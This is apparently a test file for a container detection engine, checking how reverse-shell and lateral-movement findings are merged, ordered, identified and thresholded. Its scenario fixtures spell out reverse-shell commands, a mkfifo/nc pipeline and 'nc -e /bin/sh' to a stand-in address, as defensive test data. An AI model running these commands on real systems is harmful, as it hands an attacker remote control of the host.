import { describe, expect, it } from 'vitest';
import { compareFindings, detect } from '../../src/detections/engine.js';
import { RULES } from '../../src/detections/rules/index.js';
import { type Scenario, scenario } from '../../src/detections/scenario.js';
import { caseOfScenario } from '../../src/detections/scenario-case.js';

const detectIn = (drawn: Scenario, options: Parameters<typeof detect>[1] = {}) => detect(caseOfScenario(drawn), options);

const ONE_SHELL = scenario(
  'a shell that several rules see',
  `
  container web
  0       node server.js
  1200      sh -c "mkfifo /tmp/f;cat /tmp/f|sh -i|nc host 4444"
  1200.01     mkfifo /tmp/f
  1200.02     sh -i
  1201          id
  1202          curl http://10.0.0.20:9200
  1202.1          > tcp 10.0.0.20:9200
  1200.03     nc host 4444
  1200.1        > tcp 203.0.113.9:4444
`,
);

const twoShells = (gapSeconds: number, address = '203.0.113.9') =>
  scenario(
    'one server, two shells',
    `
    container web
    0       node server.js
    1200      nc host 4444 -e /bin/sh
    1200.1      > tcp 203.0.113.9:4444
    1200.2      => /bin/sh
    ${1200 + gapSeconds}      nc host 4444 -e /bin/sh
    ${1200 + gapSeconds}.1      > tcp ${address}:4444
    ${1200 + gapSeconds}.2      => /bin/sh
  `,
  );

describe('a story', () => {
  const [shell, ...others] = detectIn(ONE_SHELL).findings;

  it('is one finding, whatever number of rules saw it', () => {
    expect(shell?.rule.id).toBe('reverse-shell-pipeline');
    expect(shell?.why).toContain('Also:');
    expect(others.map((finding) => finding.rule.id)).toEqual(['lateral-contact']);
  });

  it('speaks of the shell, its delay and what it ran', () => {
    expect(shell?.process.binary).toBe('/usr/bin/sh');
    expect(shell?.why).toContain('20m00s after its container');
    expect(shell?.why).toContain('It ran id, curl.');
  });

  it('names who played which part, the shell itself left out', () => {
    const roles = shell?.related.map((process) => [process.binary, process.role]);
    expect(roles).toContainEqual(['/usr/bin/nc', 'client']);
    expect(roles).toContainEqual(['/usr/bin/id', 'discovery']);
    expect(shell?.related.map((process) => process.id)).not.toContain(shell?.process.id);
  });

  it('has its ancestors parent first and evidence in the order of time', () => {
    expect(shell?.ancestors.map((process) => process.binary)).toEqual(['/usr/bin/sh', '/usr/bin/node']);
    const times = shell?.evidence.map((one) => one.timeUs ?? 0) ?? [];
    expect(times.length).toBeGreaterThan(3);
    expect(times).toEqual([...times].sort((a, b) => a - b));
  });

  it('takes late execution below it in, instead of reporting it twice', () => {
    expect(others.some((finding) => finding.rule.id === 'late-execution')).toBe(false);
  });
});

describe('two shells of one server', () => {
  it('are two findings', () => {
    expect(detectIn(twoShells(600)).findings).toHaveLength(2);
  });

  it('get different ids when they behave alike, so that a baseline of one does not hide the other', () => {
    const [first, second] = detectIn(twoShells(600)).findings;
    expect(second?.id).toBe(`${first?.id}-2`);
  });

  it('have unrelated ids when they call different networks', () => {
    const [first, second] = detectIn(twoShells(600, '198.51.100.7')).findings;
    expect(second?.id.startsWith(first?.id ?? '')).toBe(false);
  });
});

describe('a report', () => {
  it('is the same each time', () => {
    expect(detectIn(ONE_SHELL)).toEqual(detectIn(ONE_SHELL));
  });

  it('does not depend on the order of the rules', () => {
    const ids = (rules: typeof RULES) => detectIn(twoShells(600), { rules }).findings.map((finding) => finding.id);
    expect(ids([...RULES].reverse()).length).toBe(ids(RULES).length);
    expect(detectIn(twoShells(600)).findings).toEqual([...detectIn(twoShells(600)).findings].sort(compareFindings));
  });

  it('says which rules could not look, and why', () => {
    const quiet = scenario('no sockets at all', '\n  container web\n  0   node server.js\n  1     id');
    const { rules } = detectIn(quiet);
    expect(rules.loaded).toBe(RULES.length);
    expect(rules.ran + rules.lackingData.length).toBe(rules.loaded);
    expect(rules.lackingData.map((lacking) => lacking.id)).toContain('bind-shell');
    expect(rules.lackingData[0]?.why).toContain('no connection events');
    expect(rules.lackingData.map((lacking) => lacking.id)).not.toContain('unattended-shell');
  });

  it('leaves out rules that a user skips and counts them', () => {
    const { findings, rules } = detectIn(ONE_SHELL, { skip: ['lateral-contact'] });
    expect(rules.skipped).toBe(1);
    expect(findings.map((finding) => finding.rule.id)).not.toContain('lateral-contact');
  });

  it('obeys the thresholds that a user sets', () => {
    const slow = scenario(
      'forty seconds between call and shell',
      `
      container web
      0       node server.js
      1200      /opt/agent
      1200.1      > tcp 203.0.113.9:4444
      1240        /bin/bash
    `,
    );
    const found = (windowSeconds: number) =>
      detectIn(slow, { values: { 'reverse-shell-descendant': { windowSeconds } } }).findings.map((finding) => finding.rule.id);
    expect(found(30)).not.toContain('reverse-shell-descendant');
    expect(found(60)).toContain('reverse-shell-descendant');
  });
});
